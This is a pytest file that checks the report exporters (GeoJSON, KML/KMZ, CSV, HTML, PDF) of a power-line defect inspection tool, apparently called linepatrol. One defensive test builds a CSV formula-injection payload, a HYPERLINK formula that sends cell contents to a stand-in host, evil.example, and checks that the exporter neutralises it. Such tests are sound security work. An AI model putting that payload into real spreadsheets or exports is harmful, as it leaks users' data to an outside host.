"""The report formats (linepatrol.report): GeoJSON (RFC 7946), KML/KMZ, CSV, HTML."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import defusedxml.ElementTree as ET
import pytest

from linepatrol.geo import Defect, Evidence, Placement
from linepatrol.report import (
    COLUMNS,
    Format,
    Report,
    ReportEvidence,
    ReportHeader,
    file_name,
    from_geo,
    neutralise,
    render,
    to_csv,
    to_geojson,
    to_html,
    to_kml,
)
from linepatrol.report.kml import SEVERITY_COLOURS

KML_NS = {"k": "http://www.opengis.net/kml/2.2"}


def evidence(image: str, conf: float, lat: float | None = 30.5) -> Evidence:
    placement = (Placement(lat, 114.25, 80.0, "tower", line="L1", tower="T2")
                 if lat is not None else Placement(None, None, None, "none", "no GPS position"))
    return Evidence(image, (10.0, 20.0, 30.0, 40.0), conf, (20.0, 30.0), placement)


def report(line: str = "L1", crops: dict[str, bytes] | None = None) -> Report:
    nest = Defect("D0001", "bird_nest", "line_defect", "鸟巢", "Bird nest", "serious", 0.9,
                  30.500000012, 114.25, 85.0, "egm96", None, "tower", None, line, "T2", None,
                  None, [evidence("b.jpg", 0.9), evidence("a.jpg", 0.7)])
    crane = Defect("D0002", "truck_crane", "hazard", "吊车", "Truck crane", "critical", 0.8,
                   30.5001, 114.2490, 50.0, "egm96", None, "ground", 1.5, line, "T1", "T1-T2",
                   8.04, [evidence("a.jpg", 0.8)])
    lost = Defect("D0003", "foreign_object", "line_defect", "导线异物",
                  "Foreign object on conductor", "critical", 0.6, None, None, None, None,
                  "no GPS position", "none", None, None, None, None, None,
                  [evidence("c.jpg", 0.6, lat=None)])
    return Report(ReportHeader("LinePatrol test"),
                  tuple(from_geo(d) for d in (nest, crane, lost)), crops or {})


def test_geojson_is_rfc7946():
    doc = json.loads(json.dumps(to_geojson(report()), ensure_ascii=False))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert len(doc["features"]) == 3
    nest, crane, lost = doc["features"]
    for f in doc["features"]:
        assert f["type"] == "Feature" and set(f) == {"type", "id", "geometry", "properties"}
        assert list(f["properties"]) == [*COLUMNS, "evidence"]
    # lon, lat; 7 decimals (about a centimetre); altitude in the properties, not the position
    assert nest["geometry"] == {"type": "Point", "coordinates": [114.25, 30.5]}
    p = nest["properties"]
    assert (p["class"], p["name_zh"], p["name_en"], p["severity"], p["severity_zh"]) == (
        "bird_nest", "鸟巢", "Bird nest", "serious", "严重")
    assert (p["line"], p["tower"], p["span"], p["confidence"], p["alt_m"]) == (
        "L1", "T2", None, 0.9, 85.0)
    assert [e["photo"] for e in p["evidence"]] == ["b.jpg", "a.jpg"]
    assert p["evidence"][0]["xyxy"] == [10.0, 20.0, 30.0, 40.0] and p["photos"] == 2
    assert (p["photo"], p["photo_files"]) == ("b.jpg", "b.jpg;a.jpg")
    assert crane["properties"]["distance_to_line_m"] == 8.0
    assert crane["properties"]["span"] == "T1-T2"
    assert lost["geometry"] is None and lost["properties"]["geo_reason"] == "no GPS position"


def test_kml_placemarks_styled_by_severity_with_extended_data():
    root = ET.fromstring(to_kml(report()))
    placemarks = root.findall(".//k:Placemark", KML_NS)
    assert len(placemarks) == 2  # the unplaced defect has no position to show
    names = [p.findtext("k:name", namespaces=KML_NS) for p in placemarks]
    assert any("鸟巢" in n and "#T2" in n for n in names)
    coords = {p.findtext(".//k:coordinates", namespaces=KML_NS).strip() for p in placemarks}
    assert "114.25,30.5,0.0" in coords
    colours = {c.text for c in root.findall(".//k:IconStyle/k:color", KML_NS)}
    assert {SEVERITY_COLOURS["critical"], SEVERITY_COLOURS["serious"]} <= colours
    folders = [f.findtext("k:name", namespaces=KML_NS) for f in root.findall(".//k:Folder", KML_NS)]
    assert sorted(folders) == ["严重 serious", "危急 critical"]
    data = {d.get("name"): d.findtext("k:value", namespaces=KML_NS)
            for d in placemarks[0].findall(".//k:Data", KML_NS)}
    assert list(data) == list(COLUMNS)
    assert data["name_en"] == "Bird nest" and data["photo"] == "b.jpg"


def test_kmz_is_zipped_kml():
    kmz = to_kml(report(), kmz=True)
    with zipfile.ZipFile(io.BytesIO(kmz)) as zf:
        assert zf.namelist() == ["doc.kml"]
        root = ET.fromstring(zf.read("doc.kml"))
    assert len(root.findall(".//k:Placemark", KML_NS)) == 2


def test_csv_has_a_bom_the_columns_and_rounded_values():
    data = render(Format.CSV, report())
    assert data.startswith(b"\xef\xbb\xbfid,class,name_en,name_zh,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 3 and list(rows[0]) == list(COLUMNS)
    assert rows[0]["id"] == "D0001" and rows[0]["photo"] == "b.jpg"
    assert rows[0]["lat"] == "30.5" and rows[0]["name_zh"] == "鸟巢"  # 30.500000012 rounded
    assert rows[0]["photo_files"] == "b.jpg;a.jpg" and rows[0]["xyxy"] == "10.0 20.0 30.0 40.0"
    assert rows[1]["distance_to_line_m"] == "8.0" and rows[1]["severity_zh"] == "危急"
    assert rows[2]["lat"] == "" and rows[2]["geo_reason"] == "no GPS position"


def test_csv_neutralises_formulas_owasp():
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    rows = list(csv.reader(io.StringIO(to_csv(report(line=evil)))))
    line = COLUMNS.index("line")
    assert [r[line] for r in rows[1:3]] == ["'" + evil] * 2
    for cell in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    assert neutralise(-3.5) == -3.5 and neutralise("a=b") == "a=b" and neutralise(None) == ""


def test_html_is_one_file_with_crops_inside_and_text_escaped():
    page = to_html(report(line="<b>L1</b>", crops={"D0001": b"\xff\xd8jpeg"}))
    assert page.count('src="data:image/jpeg;base64,/9hqcGVn"') == 1
    assert "<b>L1</b>" not in page and "&lt;b&gt;L1&lt;/b&gt;" in page
    assert "http://" not in page and "https://" not in page
    assert "defects 3 (2 critical, 1 serious)" in page


def test_file_names():
    assert file_name("report", Format.KMZ) == "report.kmz"
    assert file_name("flight-7", Format.CSV) == "flight-7.csv"


def test_evidence_round_trips_through_json():
    """The service stores a sighting as its JSON and reads it back into the same record."""
    for d in report().defects:
        for e in d.evidence:
            assert ReportEvidence.from_json(e.to_json(), e.photo, e.class_key) == e.rounded()
    with pytest.raises(ValueError, match="not a number"):
        ReportEvidence.from_json({"xyxy": [0, 0, 1, 1], "confidence": 0.5, "lat": "30.5"},
                                 "a.jpg", None)
    with pytest.raises(ValueError, match="not 4 numbers"):
        ReportEvidence.from_json({"xyxy": [0, 0, 1], "confidence": 0.5}, "a.jpg", None)


# --- PDF (the pdf extra) -------------------------------------------------------------------


def _jpeg(seed: int) -> bytes:
    import cv2
    import numpy as np

    img = np.random.default_rng(seed).integers(0, 255, (60, 80, 3)).astype(np.uint8)
    return bytes(cv2.imencode(".jpg", img)[1])


def _pdf_text(data: bytes) -> tuple[str, int]:
    """The PDF's text (whitespace removed: cells wrap) and how many images it holds."""
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(data))
    text = "".join(p.extract_text() for p in reader.pages)
    return "".join(text.split()), sum(len(p.images) for p in reader.pages)


def test_pdf_has_a_row_per_defect_every_csv_value_chinese_names_and_the_crops():
    pytest.importorskip("reportlab")
    crops = {"D0001": _jpeg(1), "D0002": _jpeg(2)}
    data = render(Format.PDF, report(line="L1 <b>&</b>", crops=crops))
    assert data.startswith(b"%PDF-") and Format.PDF.media_type == "application/pdf"
    text, images = _pdf_text(data)
    assert images == 2  # the defect without a crop has an empty cell
    assert "defects3(2critical,1serious)" in text  # the HTML report's count line
    assert "L1<b>&</b>" in text  # user text escaped, shown as written
    rows = list(csv.DictReader(io.StringIO(to_csv(report(line="L1 <b>&</b>")))))
    assert [text.count(r["id"]) for r in rows] == [1, 1, 1]  # one row per defect
    assert text.count("photo(s):") == 3
    for r in rows:
        for column in COLUMNS:
            if r[column]:
                assert "".join(r[column].split()) in text, (r["id"], column, r[column])
    for zh in ("鸟巢", "吊车", "导线异物", "危急", "严重"):
        assert zh in text
    assert render(Format.PDF, report(line="L1 <b>&</b>", crops=crops)) == data  # invariant


def test_pdf_without_a_system_cjk_font_uses_stsong(monkeypatch):
    pytest.importorskip("reportlab")
    from linepatrol.report import pdf

    monkeypatch.setattr(pdf, "cjk_font", lambda truetype=False: None)
    pdf._font.cache_clear()
    try:
        data = render(Format.PDF, report())
    finally:
        pdf._font.cache_clear()
    assert b"/STSong-Light" in data
    text, _ = _pdf_text(data)
    assert "鸟巢" in text and "导线异物" in text


def test_pdf_without_reportlab_names_the_extra(monkeypatch):
    import sys

    from linepatrol.report import PdfUnavailableError

    monkeypatch.setitem(sys.modules, "reportlab", None)
    with pytest.raises(PdfUnavailableError, match=r"pip install 'linepatrol\[pdf\]'"):
        render(Format.PDF, report())
